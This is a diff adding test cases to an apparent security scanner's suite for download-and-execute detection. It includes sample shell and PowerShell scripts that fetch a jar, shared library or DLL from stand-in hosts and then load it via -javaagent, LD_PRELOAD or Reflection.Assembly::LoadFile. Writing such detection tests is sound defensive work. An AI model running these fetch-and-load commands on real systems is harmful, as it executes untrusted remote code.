@@ -88,6 +88,19 @@ describe("a program or code downloaded and run, in any language", () => {
     honest(scanOf({ "load.py": "import torch, urllib.request\nweights = '/tmp/resnet.pt'\nurllib.request.urlretrieve('https://models.example-hub.net/resnet.pt', weights)\nstate = torch.load(weights, weights_only=True)\nprint(len(state))\n" }));
   });
 
+  it("shell: a downloaded jar attached as a JVM agent (through a variable) and loaded with LD_PRELOAD", () => {
+    blocked(scanOf({ "profile.sh": '#!/bin/bash\nAGENT="$HOME/.cache/prof/agent.jar"\ncurl -fsSL -o "$AGENT" https://profiler-dist.example.net/agent.jar\njava -javaagent:"$AGENT" -jar build/app.jar\n' }), "SR-DLEXEC-008");
+    blocked(scanOf({ "fast.sh": "#!/bin/bash\nwget -qO /tmp/libfast.so http://203.0.113.50/libfast.so\nLD_PRELOAD=/tmp/libfast.so ./server\n" }), "SR-DLEXEC-008");
+  });
+
+  it("shell: a jar the build produced run with java -jar, beside a download of data", () => {
+    honest(scanOf({ "run.sh": "#!/bin/bash\ncurl -fsSL -o data/cities.csv https://data.example-open.org/cities.csv\n./gradlew shadowJar\njava -jar build/libs/app-all.jar data/cities.csv\n" }));
+  });
+
+  it("PowerShell: a downloaded DLL loaded with [Reflection.Assembly]::LoadFile", () => {
+    blocked(scanOf({ "load.ps1": '$dll = Join-Path $env:TEMP "ext.dll"\nInvoke-WebRequest -Uri "https://ext-host.example.org/ext.dll" -OutFile $dll\n[Reflection.Assembly]::LoadFile($dll) | Out-Null\n[Ext.Entry]::Run()\n' }), "SR-DLEXEC-008");
+  });
+
   it("a download saved by a shell script and started by a Node script", () => {
     blocked(
       scanOf({
